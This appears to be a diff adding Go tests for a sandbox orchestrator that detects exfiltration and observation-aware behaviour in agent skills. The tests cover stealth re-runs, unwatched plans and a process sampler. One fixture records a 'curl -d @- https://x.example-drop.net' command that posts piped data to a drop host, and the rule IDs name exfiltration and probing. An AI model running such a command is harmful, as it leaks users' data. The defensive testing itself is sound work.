@@ -1,0 +1,121 @@
+package orchestrator
+
+import (
+	"context"
+	"encoding/json"
+	"io"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/sandboxctl/sandboxctl/canaryfs"
+	"github.com/sandboxctl/sandboxctl/mcptools"
+	"github.com/sandboxctl/sandboxctl/reports"
+	"github.com/sandboxctl/sandboxctl/rules"
+	"github.com/sandboxctl/sandboxctl/trace"
+)
+
+func TestStealthReason(t *testing.T) {
+	probe := rules.Finding{RuleID: "SBX-PROBE-002", Severity: rules.Medium, Confidence: rules.ConfMedium}
+	leak := rules.Finding{RuleID: "SBX-EXFIL-001", Severity: rules.Critical, Confidence: rules.ConfHigh, Harm: rules.HarmExfil}
+	rep := func(st reports.Status, v rules.Verdict, fs ...rules.Finding) *reports.Report {
+		return &reports.Report{Status: st, Verdict: v, Findings: fs}
+	}
+	tests := []struct {
+		name    string
+		stealth string
+		rep     *reports.Report
+		want    string
+	}{
+		{name: "auto, tells read", rep: rep(reports.StatusCompleted, rules.Suspicious, probe), want: "tells read: SBX-PROBE-002"},
+		{name: "auto, no tells", rep: rep(reports.StatusCompleted, rules.Clean)},
+		{name: "auto, harm already proven", rep: rep(reports.StatusCompleted, rules.Malicious, probe, leak)},
+		{name: "always", stealth: StealthAlways, rep: rep(reports.StatusCompleted, rules.Clean), want: "--stealth"},
+		{name: "always, after a timeout", stealth: StealthAlways, rep: rep(reports.StatusTimeout, rules.Inconclusive), want: "--stealth"},
+		{name: "always, watched pass failed", stealth: StealthAlways, rep: rep(reports.StatusError, rules.Inconclusive)},
+		{name: "off", stealth: StealthOff, rep: rep(reports.StatusCompleted, rules.Suspicious, probe)},
+		{name: "no report", stealth: StealthAlways},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := stealthReason(Plan{Stealth: tt.stealth}, tt.rep); got != tt.want {
+				t.Errorf("stealthReason = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestUnwatchedPlan(t *testing.T) {
+	p := Plan{TraceID: strings.Repeat("a", 50) + "-bcdefghijkl", SkillPath: "s", Driver: Driver{Kind: DriverLiteral},
+		Limits: DefaultLimits(), Seed: []byte("x"), Stealth: StealthAlways}
+	home := &canaryfs.Home{User: "mwalker", Hostname: "mw-desk", HomeDir: "/home/mwalker"}
+	up := unwatchedPlan(p, &run{home: home})
+	if up.User != "mwalker" || up.Hostname != "mw-desk" {
+		t.Errorf("unwatched pass as %s@%s, want the watched pass's names", up.User, up.Hostname)
+	}
+	if !up.Unwatched || up.Seed != nil || !strings.HasSuffix(up.TraceID, "-unwatched") || up.TraceID == p.TraceID {
+		t.Errorf("unwatchedPlan = %+v", up)
+	}
+	if err := up.Validate(); err != nil {
+		t.Errorf("unwatched plan invalid: %v", err)
+	}
+	if p.Unwatched {
+		t.Errorf("unwatchedPlan changed its input")
+	}
+	if argv := mcpArgv(up, home); !slices.Contains(argv, "--no-strace") {
+		t.Errorf("unwatched tool server %q runs the tracer", argv)
+	}
+	if argv := mcpArgv(p, home); slices.Contains(argv, "--no-strace") {
+		t.Errorf("watched tool server %q runs without the tracer", argv)
+	}
+}
+
+// psSandbox plays agentd __ps: it prints its lines, then waits for its
+// stdin to close.
+type psSandbox struct {
+	Sandbox
+	lines []string
+}
+
+func (s *psSandbox) Exec(ctx context.Context, e ExecSpec) (int, error) {
+	if !slices.Contains(e.Argv, "__ps") {
+		return -1, io.ErrUnexpectedEOF
+	}
+	for _, l := range s.lines {
+		io.WriteString(e.Stdout, l+"\n")
+	}
+	_, err := io.Copy(io.Discard, e.Stdin)
+	return 0, err
+}
+
+func TestProcSampler(t *testing.T) {
+	line := func(s mcptools.Sampled) string { b, _ := json.Marshal(s); return string(b) }
+	sb := &psSandbox{lines: []string{
+		line(mcptools.Sampled{PID: 41, PPID: 40, Exe: "/usr/bin/python3", Argv: []string{"python3", "sync.py"}}),
+		"not json", `{"pid": -3}`,
+		line(mcptools.Sampled{PID: 42, PPID: 41, Exe: "/usr/bin/curl", Argv: []string{"curl", "-d", "@-", "https://x.example-drop.net"}}),
+		line(mcptools.Sampled{PID: 43, PPID: 41, Exe: "/usr/bin/cat", Argv: []string{"cat"}, TracerPID: 7}),
+	}}
+	s := startProcSampler(t.Context(), sb, time.Now)
+	deadline := time.Now().Add(5 * time.Second)
+	for n, _ := s.counts(); n < 3 && time.Now().Before(deadline); n, _ = s.counts() {
+		time.Sleep(10 * time.Millisecond)
+	}
+	evs := s.stop()
+	s.stop() // idempotent
+	var got []string
+	for _, e := range evs {
+		d := e.Data.(*trace.Exec)
+		if e.Source != trace.SourceSample || e.Type != trace.TypeExec || e.PID == 0 {
+			t.Errorf("event %+v", e)
+		}
+		got = append(got, d.Path)
+	}
+	if want := []string{"/usr/bin/python3", "/usr/bin/curl", "/usr/bin/cat"}; !slices.Equal(got, want) {
+		t.Errorf("sampled %q, want %q", got, want)
+	}
+	if n, traced := s.counts(); n != 3 || traced != 1 {
+		t.Errorf("counts = %d, %d; want 3 sampled, 1 traced", n, traced)
+	}
+}
